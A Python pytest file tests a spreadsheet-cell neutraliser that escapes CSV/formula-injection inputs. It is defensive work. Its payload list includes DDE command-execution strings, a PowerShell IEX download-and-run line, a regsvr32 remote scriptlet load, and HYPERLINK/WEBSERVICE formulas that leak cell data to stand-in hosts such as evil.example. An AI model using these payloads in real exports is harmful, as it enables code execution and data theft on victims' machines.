from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from advisor_tui.models.spreadsheet_cells import (
    FORMULA_TRIGGERS,
    needs_neutralising,
    neutralise_cell,
)

PAYLOADS = [
    "=1+1",
    "=1+1;A1",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Klikkaa")',
    '=HYPERLINK(CONCATENATE("http://x/?",A2:B9),"ok")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll'!''",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=IMPORTXML(CONCAT("http://x/?v=", A1), "//a")',
    '=IMPORTRANGE("https://docs.google.com/x","A1:Z9")',
    '=IMAGE("https://evil.example/pixel.png")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=INFO("system")',
    "=SUM(A1:A9)",
    "-2+3",
    "-2",
    "-1e3",
    "+358401234567",
    "+1",
    "-",
    "=",
    "+",
    "@",
    "@SUM(A1)",
    "@foo",
    "--1",
    "+-=@",
    "\t=1",
    "\r=1",
    "\n=1",
    "\t",
    "\r\n",
    "\x00=1",
    " =1+1",
    "  +cmd|' /C calc'!A0",
    "\u00a0=1+1",
    "\u3000=1+1",
    " \t@SUM(A1)",
    "\uff1d1+1",
    "\uff0bcmd|' /C calc'!A0",
    "\uff0d2+3",
    "\uff20SUM(A1)",
    "=1+1\n",
    "-äiti soitti",
    "@äiti",
]


def test_at_least_forty_payloads() -> None:
    assert len(PAYLOADS) >= 40
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised(payload: str) -> None:
    result = neutralise_cell(payload)
    assert result == "'" + payload
    assert needs_neutralising(payload)
    assert not needs_neutralising(result)


@pytest.mark.parametrize(
    "text",
    [
        "",
        " ",
        "Äiti soitti, lapsi 5 v.",
        "1+1",
        "2-1",
        "a=b",
        "sähköposti@example.fi",
        "'=1+1",
        "(=1)",
        "040 1234567",
        "2.4.2026",
        "14.30",
        "[bold]x[/]",
        "%",
        "|cmd",
        "x\t=1",
    ],
)
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert neutralise_cell(text) == text


@pytest.mark.parametrize(
    "value", [-5, -1.5, Decimal("-2"), 0, True, None, date(2026, 4, 2), b"=1+1"]
)
def test_non_text_values_pass_through(value: object) -> None:
    assert neutralise_cell(value) is value


def test_full_width_triggers_are_included() -> None:
    assert {"\uff1d", "\uff0b", "\uff0d", "\uff20"} <= FORMULA_TRIGGERS


def test_round_trip_through_semicolon_csv() -> None:
    row = [neutralise_cell(v) for v in ["=1+1", "ok", -3, "a;b", '"=2"', "\n=1"]]
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";").writerow(row)
    read = next(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
    assert read == ["'=1+1", "ok", "-3", "a;b", '"=2"', "'\n=1"]


@given(st.text())
def test_property_no_cell_starts_with_a_trigger(text: str) -> None:
    cell = neutralise_cell(text)
    assert cell[:1] not in FORMULA_TRIGGERS
    assert cell.lstrip()[:1] not in FORMULA_TRIGGERS
    assert cell in (text, "'" + text)
    assert neutralise_cell(cell) == cell
